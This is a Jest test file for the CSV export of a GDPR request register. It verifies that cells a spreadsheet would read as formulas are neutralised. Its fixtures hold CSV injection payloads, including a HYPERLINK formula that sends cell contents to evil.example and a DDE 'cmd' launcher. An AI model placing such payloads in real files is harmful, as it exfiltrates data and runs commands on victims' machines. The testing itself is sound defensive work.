import { describe, expect, it } from '@jest/globals';
import { csvField, csvRow, type RegisterEntry } from '../../../src/register/register.service.js';

/** Splits one CSV line (RFC 4180) into its fields. */
function fields(line: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n)/g;
  let m: RegExpExecArray | null;
  while ((m = re.exec(line))) {
    out.push(m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1]);
    if (m[2] === '\r\n') break;
  }
  return out;
}

describe('CSV injection (OWASP): a cell a spreadsheet would read as a formula is neutralised', () => {
  it.each(['=HYPERLINK("https://evil.example","klik")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A2)', '\t=1', '\r=1'])('%j starts with a quote', (value) => {
    expect(fields(csvField(value) + '\r\n')[0]).toBe(`'${value}`);
  });

  it('leaves ordinary text and plain numbers (a negative day count) as they are', () => {
    expect(csvField('Drukkerij De Letter')).toBe('Drukkerij De Letter');
    expect(csvField('-3')).toBe('-3');
    expect(csvField('2026-01-05')).toBe('2026-01-05');
  });

  it('the register row of a controller named =HYPERLINK(…) carries the name as text', () => {
    const entry: RegisterEntry = {
      reference: 'AVG-2026-000001',
      receivedAt: '2026-01-05T09:00:00.000Z',
      receivedOn: '2026-01-05',
      channel: 'api',
      rights: ['access'],
      scope: null,
      state: 'forwarded',
      controllers: [{ name: '=HYPERLINK("https://evil.example/?"&A1,"klik")', decision: null, instruction: null }],
      forwardedOn: '2026-01-05',
      acknowledgedOn: null,
      decidedOn: null,
      closedOn: null,
      dueDate: '2026-02-05',
      deadline: 'open',
      daysPastDeadline: -20,
      extended: false,
      extendedOn: null,
      refusalGround: null,
      refusalPartial: false,
      personalDataPurged: false,
    };
    const row = fields(csvRow(entry));
    expect(row[6]).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"klik")`);
    expect(row[14]).toBe('-20');
    expect(row.every((cell) => !/^[=+\-@\t\r]/.test(cell) || /^-\d+$/.test(cell))).toBe(true);
  });
});
